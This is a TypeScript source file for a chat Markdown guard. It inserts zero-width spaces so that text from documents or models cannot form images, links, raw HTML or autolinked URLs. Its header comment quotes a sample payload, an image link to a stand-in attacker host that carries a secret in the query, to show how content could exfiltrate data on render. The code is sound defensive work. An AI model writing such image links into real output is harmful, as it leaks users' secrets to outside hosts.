/**
 * What a document or a model writes reaches the chat as Markdown that can display text only:
 * no image (the chat would fetch it: `![x](https://attacker/?q=<secret>)` leaks on sight), no
 * link, no raw HTML, no autolinked URL or e-mail address. The only links in an answer are the
 * ones we add afterwards (citation command links, file references).
 *
 * Each construct is broken by a zero-width space at the point where it would form (`!​[`, `]​(`,
 * `]​:`, `<​img`, `http:​//`, `www​.`, `a@​b`): the reader sees the same characters, a URL stays
 * readable as text, and no Markdown parser can see the construct. The decision for a character
 * depends only on the characters before it, never on those after, so text streamed token by
 * token gets exactly the output of the whole text at once: a link or image split across tokens
 * cannot slip through, and nothing needs holding back. VS Code joins consecutive Markdown parts
 * before rendering, which is why the state carries over from one `push` to the next. Breaks are
 * inserted in code spans and blocks as well (where they are invisible too): whether a backtick
 * opens a code span is only known once it closes, so skipping code would not be safe.
 */

/** U+200B ZERO WIDTH SPACE. */
export const BREAK = '\u200b';

/** Whether `ch`, after `before` (the text so far), would complete a construct that renders more than text. */
function breaksBefore(before: string, ch: string): boolean {
  const prev = before.at(-1);
  switch (prev) {
    case '!':
      return ch === '[';
    case ']':
      return ch === '(' || ch === ':';
    case ':':
      return ch === '/';
    case '<':
      return /[A-Za-z/!?]/.test(ch);
    case '@':
      return /[A-Za-z0-9]/.test(ch);
    default:
      return ch === '.' && /www$/i.test(before);
  }
}

export class ChatMarkdownGuard {
  /** The last few characters of the text so far (all any rule looks back at). */
  private tail = '';

  /** The Markdown to show for the next piece of text. */
  push(text: string): string {
    let out = '';
    for (const ch of text) {
      if (breaksBefore(this.tail, ch)) out += BREAK;
      out += ch;
      this.tail = (this.tail + ch).slice(-3);
    }
    return out;
  }
}

/** Text from a document or a model, whole, as display-only Markdown. */
export function displayOnly(text: string): string {
  return new ChatMarkdownGuard().push(text);
}
